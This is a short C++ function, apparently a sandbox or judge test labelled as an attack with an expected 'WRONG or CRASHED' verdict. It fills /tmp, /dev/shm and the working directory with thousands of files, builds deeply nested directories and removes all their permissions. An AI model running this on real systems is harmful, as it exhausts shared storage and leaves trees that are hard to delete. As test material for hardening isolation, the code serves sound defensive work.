// attack: makes thousands of files, and folders within folders, that nobody may enter or remove
// verdict: WRONG or CRASHED

#include <sys/stat.h>

bool attack() {
  for (const std::string place : {"/tmp", "/dev/shm", "."}) {
    for (int i = 0; i < 5000; ++i) {
      static_cast<void>(mknod((place + "/file" + std::to_string(i)).c_str(), S_IFREG, 0));
    }
    if (chdir(place.c_str()) == 0) {
      for (int depth = 0; depth < 2000 && mkdir("deep", 0700) == 0 && chdir("deep") == 0; ++depth) {
      }
      chmod(".", 0);
      chmod(place.c_str(), 0);
    }
  }
  return false;
}
